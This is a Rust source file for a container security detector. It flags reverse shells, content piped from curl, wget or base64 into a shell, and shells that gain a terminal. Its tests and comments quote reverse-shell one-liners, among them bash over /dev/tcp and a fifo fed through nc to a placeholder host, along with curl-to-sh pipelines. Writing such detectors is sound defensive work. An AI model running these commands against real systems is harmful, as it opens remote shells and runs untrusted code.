//! Shells where none belongs: behind a server, behind a socket, behind a pipe.

use bstr::ByteSlice as _;

use crate::detect::case::Case;
use crate::detect::memory::{BESIDE, Outbound};
use crate::detect::{Fact, Look, Rule, RuleInfo, Severity, programs, who};
use crate::event::{Connect, Endpoint, Exec};
use crate::state::ProcessEntry;

/// A connection older than this does not explain a shell.
const FRESH: u64 = 30;
/// Shells without a script remembered in one container.
const MAX_BARE: usize = 32;

/// Reverse shell.
pub(super) const REVERSE: Rule = Rule {
    info: RuleInfo {
        id: "net.reverse-shell",
        title: "A shell is connected to the network",
        severity: Severity::Critical,
        attack: &["T1059.004", "T1571"],
        needs: &[Fact::Exec, Fact::Connect],
        explain: "A process connected out and then became a shell or started one that takes its \
                  commands from it: directly, through a pipe, or through a fifo. It counts \
                  whichever program made the connection.",
        check: "The peer; cut the container off the network before anything else.",
    },
    looks: &[Look::Exec(reverse), Look::Connect(reverse_pipe)],
};

/// Downloader piped into an interpreter.
pub(super) const PIPE: Rule = Rule {
    info: RuleInfo {
        id: "exec.pipe-to-shell",
        title: "What was fetched or decoded went straight into an interpreter",
        severity: Severity::High,
        attack: &["T1059", "T1105", "T1140"],
        needs: &[Fact::Exec],
        explain: "An interpreter without a script started beside a downloader or decoder, of the \
                  same parent and at the same moment: the shape of `curl … | sh` and `base64 -d \
                  | sh`. What runs so never lies in a file.",
        check: "What was fetched, and from where.",
    },
    looks: &[Look::Exec(pipe)],
};

/// Shell with a terminal under the init tree.
pub(super) const TERMINAL: Rule = Rule {
    info: RuleInfo {
        id: "exec.shell-terminal",
        title: "A shell got a terminal",
        severity: Severity::Medium,
        attack: &["T1059.004"],
        needs: &[Fact::Exec],
        explain: "A shell below the container's own init runs with a terminal, although the init \
                  has none: shells upgraded by `script` or pty.spawn look so. A container \
                  started with a terminal is not flagged.",
        check: "Who typed; which process made the terminal.",
    },
    looks: &[Look::Exec(terminal)],
};

pub(super) fn shell(exec: &Exec) -> Option<&[u8]> {
    let name = programs::name(&exec.exe, &exec.argv);
    programs::is_shell(name).then_some(name)
}

/// An interpreter that takes its program from its input: no script, no program text.
fn bare(exec: &Exec) -> bool {
    let name = programs::name(&exec.exe, &exec.argv);
    if !programs::is_shell(name) && (!programs::is_interpreter(name) || name.ends_with(b"awk")) {
        return false;
    }
    // argv[0] of a busybox applet may be `busybox`, the applet's name following.
    let skip = usize::from(
        exec.argv
            .first()
            .is_some_and(|a| programs::leaf(a.as_bytes()) == b"busybox"),
    );
    // With -s everything that follows is for the program that comes by the input.
    let input = |a: &crate::event::Bytes| a.as_bytes() == b"-s";
    exec.script.is_none()
        && exec
            .argv
            .iter()
            .take_while(|a| !input(a))
            .skip(1 + skip)
            .all(|a| {
                let a = a.as_bytes();
                a == b"-"
                    || (a.starts_with(b"-") && !a.starts_with(b"--") && !a.contains(&b'c'))
                    || matches!(a, b"--norc" | b"--noprofile" | b"--login" | b"--posix")
            })
}

fn interactive(exec: &Exec) -> bool {
    exec.argv.iter().skip(1).any(|a| {
        let a = a.as_bytes();
        a.starts_with(b"-") && !a.starts_with(b"--") && a.contains(&b'i')
    })
}

/// A recent connection out of the container's network to somebody else.
fn fresh(case: &Case<'_>, pid: u32) -> Option<Outbound> {
    let out = case.memory.outbound.get(&pid)?;
    let recent = case.now().since(out.ts).as_secs() <= FRESH;
    // Names are asked for and logs are sent by every program.
    let aside = out.to.ip().is_unspecified() || matches!(out.to.port(), 53 | 514);
    (recent && !aside).then_some(*out)
}

fn reverse(case: &mut Case<'_>, exec: &Exec) {
    if shell(exec).is_none() {
        // An interpreter that reads its program from a pipe is remembered for the pipe's rule.
        remember_bare(case, exec);
        return;
    }
    let pid = case.event.pid;
    // The same process connected, then became a shell: with any arguments.
    let own = fresh(case, pid);
    // Its parent connected, and the shell waits for commands.
    let parents = || {
        if !bare(exec) || exec.tty && case.session().is_some() {
            return None;
        }
        let parent = case.ancestors().nth(1)?;
        // A downloader's child shell runs what was fetched; a server's is another story.
        fresh(case, parent.pid)
    };
    let Some(out) = own.or_else(parents) else {
        remember_bare(case, exec);
        return;
    };
    raise_reverse(
        case,
        &out,
        &programs::command_line(&exec.argv, &exec.exe, 160),
    );
}

fn raise_reverse(case: &mut Case<'_>, out: &Outbound, command: &str) {
    let subject = out.to.to_string();
    let place = case.raise(Severity::Critical, subject.as_bytes(), |_, told| {
        told.title = format!("A shell is connected to {}", out.to);
        told.why.push(format!("shell: {command}"));
        told.why.push(format!("connected to {}", out.to));
    });
    if let Some(place) = place {
        case.stories.attach(place, case.now(), out.seq);
        case.memory.mark(case.event.pid, place);
    }
}

/// A shell that waits for commands may get them from a sibling that connects later.
fn remember_bare(case: &mut Case<'_>, exec: &Exec) {
    if !bare(exec) || exec.tty {
        return;
    }
    let entry = (case.event.pid, exec.ppid, case.now(), case.event.seq);
    let shells = &mut case.own().bare_shells;
    shells.push_back(entry);
    if shells.len() > MAX_BARE {
        shells.pop_front();
    }
    if shell(exec).is_none() {
        return;
    }
    // The sibling may have connected already.
    let sibling = case
        .state
        .processes
        .values()
        .filter(|p| p.ppid == exec.ppid && p.pid != case.event.pid && p.exited.is_none())
        .filter(|p| p.owner.as_ref() == Some(case.owner))
        .find_map(|p| Some((fresh(case, p.pid)?, p.pid)));
    if let Some((out, pid)) = sibling
        && !is_fetch(case, pid)
    {
        let command = programs::command_line(&exec.argv, &exec.exe, 160);
        raise_reverse(case, &out, &command);
    }
}

/// The sibling fetches, it does not take commands: the pipe's own rule tells of it.
fn is_fetch(case: &Case<'_>, pid: u32) -> bool {
    case.state.processes.get(&pid).is_some_and(|p| {
        matches!(
            programs::of(p),
            b"curl" | b"wget" | b"fetch" | b"aria2c" | b"axel"
        )
    })
}

fn reverse_pipe(case: &mut Case<'_>, connect: &Connect) {
    let Endpoint::Inet(to) = connect.remote else {
        return;
    };
    if to.port() == 53 || is_fetch(case, case.event.pid) {
        return;
    }
    let Some(process) = case.process else { return };
    let now = case.now();
    let Some(&(_, _, _, seq)) = case.memory.get(case.owner).and_then(|own| {
        own.bare_shells.iter().find(|(pid, parent, at, _)| {
            *parent == process.ppid
                && *pid != process.pid
                && now.since(*at).as_secs() <= FRESH
                && case
                    .state
                    .processes
                    .get(pid)
                    .is_some_and(|p| p.exited.is_none())
        })
    }) else {
        return;
    };
    let out = Outbound { to, ts: now, seq };
    let command = programs::command_line(&process.argv, &process.exe, 160);
    raise_reverse(case, &out, &format!("fed by {command}"));
}

fn pipe(case: &mut Case<'_>, exec: &Exec) {
    if exec.tty && case.starting_up() {
        return;
    }
    let now = case.now();
    let near = |p: &&ProcessEntry| {
        p.owner.as_ref() == Some(case.owner)
            && p.ppid == exec.ppid
            && p.pid != case.event.pid
            && now.since(p.started).as_secs() <= BESIDE.as_secs()
    };
    let name = programs::name(&exec.exe, &exec.argv);
    let source = programs::is_downloader(name)
        && !matches!(name, b"nc" | b"ncat" | b"netcat" | b"socat" | b"telnet")
        || decodes(name, &exec.argv);
    let bare = bare(exec);
    if !bare && !source {
        return;
    }
    let beside = case.own().beside(exec.ppid);
    let mut beside = beside
        .iter()
        .filter_map(|pid| case.state.processes.get(pid))
        .filter(near);
    let found = if bare {
        beside.find(|p| {
            let n = programs::of(p);
            matches!(
                n,
                b"curl" | b"wget" | b"fetch" | b"aria2c" | b"GET" | b"ftpget"
            ) || decodes(n, &p.argv)
        })
    } else {
        // The interpreter at the pipe's end may have been first.
        beside.find(|p| {
            case.memory.get(case.owner).is_some_and(|own| {
                own.bare_shells
                    .iter()
                    .any(|(pid, _, at, _)| *pid == p.pid && now.since(*at).as_secs() <= 2)
            })
        })
    };
    let Some(other) = found else { return };
    let other = programs::command_line(&other.argv, &other.exe, 160);
    let this = programs::command_line(&exec.argv, &exec.exe, 160);
    if case.starting_up() {
        super::fold_startup(case, format!("{this} beside {other}"));
        return;
    }
    let (from, into) = if bare { (other, this) } else { (this, other) };
    case.raise(Severity::High, from.as_bytes(), |case, told| {
        told.title = format!("{}: {from} | {into}", case.rule.title);
        told.why.push(format!("source: {from}"));
        told.why.push(format!("interpreter: {into}"));
    });
}

/// The program decodes what it is given.
fn decodes(name: &[u8], argv: &[crate::event::Bytes]) -> bool {
    let has = |words: &[&[u8]]| argv.iter().skip(1).any(|a| words.contains(&a.as_bytes()));
    match name {
        b"base64" | b"base" | b"basenc" => has(&[b"-d", b"-D", b"--decode", b"-di", b"-id"]),
        b"xxd" => has(&[b"-r", b"-p", b"-rp", b"-pr"]),
        b"openssl" => has(&[b"-d"]),
        b"uudecode" => true,
        _ => false,
    }
}

fn terminal(case: &mut Case<'_>, exec: &Exec) {
    if !exec.tty || shell(exec).is_none() || case.session().is_some() {
        return;
    }
    let Some(process) = case.process else { return };
    // A login over SSH has a terminal.
    if case.ancestors().any(who::lets_people_in) {
        return;
    }
    // The root of the init tree: when it has a terminal, the container was started with one.
    let root = case.ancestors().last();
    let given = root.is_none_or(|r| r.tty || r.existing || r.pid == process.pid);
    if given || process.nspid == 1 || !(bare(exec) || interactive(exec)) {
        return;
    }
    case.raise(Severity::Medium, &exec.exe, |_, told| {
        let command = programs::command_line(&exec.argv, &exec.exe, 160);
        told.title = format!("A shell got a terminal: {command}");
        told.why
            .push("the container's init has no terminal".to_owned());
    });
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use crate::detect::Severity;
    use crate::detect::testkit::{World, image};

    #[test]
    fn reverse_shells_in_three_ways() {
        // bash -i >& /dev/tcp/…: the process connects, then becomes the shell.
        let mut w = World::steady();
        let init = w.init();
        let p = w.fork(init);
        w.connect(p, "10.9.8.7:4444");
        w.exec_as(p, init, "/bin/bash", &["bash", "-i"], |_| {});
        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
        // python: connect, then a child shell.
        let mut w = World::steady();
        let init = w.init();
        let p = w.exec(init, "/usr/bin/python3", &["python3", "-c", "x"]);
        w.connect(p, "10.9.8.7:4444");
        w.exec(p, "/bin/sh", &["/bin/sh", "-i"]);
        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
        // rm f; mkfifo f; cat f | sh -i 2>&1 | nc host port > f
        let mut w = World::steady();
        let init = w.init();
        let sh = w.exec(init, "/bin/sh", &["sh", "-c", "x"]);
        w.exec(sh, "/bin/cat", &["cat", "/tmp/f"]);
        w.exec(sh, "/bin/busybox", &["sh", "-i"]);
        let nc = w.exec(sh, "/bin/busybox", &["nc", "10.9.8.7", "4444"]);
        w.connect(nc, "10.9.8.7:4444");
        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
    }

    #[test]
    fn ordinary_shells_beside_connections_are_silent() {
        let mut w = World::starting();
        let init = w.init();
        let app = w.exec(init, "/usr/bin/python3", &["python3", "app.py"]);
        w.ticks(60);
        // A service connects to its database and runs a command through the shell.
        w.connect(app, "10.0.0.5:5432");
        w.exec(app, "/bin/sh", &["sh", "-c", "ffmpeg -i x"]);
        // A script's shell asks a resolver, then runs a script.
        let sh = w.exec(init, "/bin/sh", &["sh", "/job.sh"]);
        let curl = w.exec(sh, "/usr/bin/curl", &["curl", "x"]);
        w.connect(curl, "10.0.0.9:80");
        w.exec(sh, "/bin/sh", &["sh", "/other.sh"]);
        w.only(&[]);
    }

    #[test]
    fn pipes_into_interpreters() {
        for (first, second) in [
            (&["curl", "http://x/i.sh"][..], &["sh"][..]),
            (&["wget", "-qO-", "http://x"], &["bash", "-s"]),
            (&["base64", "-d"], &["sh"]),
            (&["curl", "x"], &["python3", "-"]),
        ] {
            for swap in [false, true] {
                let mut w = World::steady();
                let s = w.session(&["sh"]);
                let (a, b) = if swap {
                    (second, first)
                } else {
                    (first, second)
                };
                for argv in [a, b] {
                    let exe = format!("/usr/bin/{}", argv[0]);
                    w.exec(s, &exe, argv);
                }
                assert_eq!(
                    w.finding("exec.pipe-to-shell").severity,
                    Severity::High,
                    "{first:?} {swap}"
                );
            }
        }
        let mut w = World::steady();
        let s = w.session(&["sh"]);
        w.exec(s, "/usr/bin/curl", &["curl", "x"]);
        w.exec(s, "/usr/bin/jq", &["jq", "."]);
        w.exec(s, "/bin/sh", &["sh", "-c", "true"]);
        w.ticks(10);
        w.exec(s, "/bin/sh", &["sh"]);
        w.none("exec.pipe-to-shell");
    }

    #[test]
    fn a_terminal_where_the_init_has_none() {
        let mut w = World::starting();
        let init = w.init();
        let web = w.exec(init, "/usr/sbin/nginx", &["nginx"]);
        w.listen(web, "0.0.0.0:80");
        w.ticks(60);
        let p = w.fork(web);
        w.exec_as(p, web, "/bin/bash", &["bash"], |e| e.tty = true);
        assert_eq!(w.finding("exec.shell-terminal").severity, Severity::Medium);
        // docker run -it debian bash
        let mut w = World::starting();
        let init = w.init();
        w.exec_as(init, 1, "/bin/bash", &["bash"], |e| {
            e.tty = true;
            e.file = image(2);
        });
        w.ticks(60);
        let p = w.fork(init);
        w.exec_as(p, init, "/bin/bash", &["bash"], |e| e.tty = true);
        w.only(&[]);
    }
}
